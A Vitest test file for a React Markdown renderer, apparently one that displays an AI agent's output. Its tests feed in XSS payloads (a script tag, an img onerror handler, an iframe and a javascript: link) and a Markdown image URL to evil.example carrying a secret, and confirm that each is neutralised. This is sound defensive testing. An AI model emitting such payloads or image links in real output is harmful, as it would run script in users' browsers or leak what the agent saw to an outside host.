import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { expect, test } from 'vitest';
import { Markdown } from './Markdown.tsx';

const render = (text: string) => renderToStaticMarkup(createElement(Markdown, { text }));

test('markdown is shown as what it means', () => {
	expect(render('**bold** and `code`\n\n- one\n- two')).toMatch(
		/<strong.*>bold<\/strong>.*<code.*>code<\/code>.*<li.*>one/s,
	);
});

test('no markup of the text itself reaches the page', () => {
	const html = render(
		'<script>alert(1)</script> <img src=x onerror=alert(1)> <iframe src="https://evil.example"></iframe>',
	);
	expect(html).not.toMatch(/<(script|img|iframe)/i);
});

test('no image is loaded from anywhere: its address could carry away what the agent saw', () => {
	expect(render('![a picture](https://evil.example/?secret=1)')).not.toMatch(/<img|src=/);
});

test('a link is a link to the web only, opens elsewhere, and tells it nothing', () => {
	expect(render('[x](javascript:alert(1))')).not.toContain('javascript:');
	expect(render('[x](https://example.com)')).toMatch(/<a[^>]*rel="[^"]*noopener/);
});
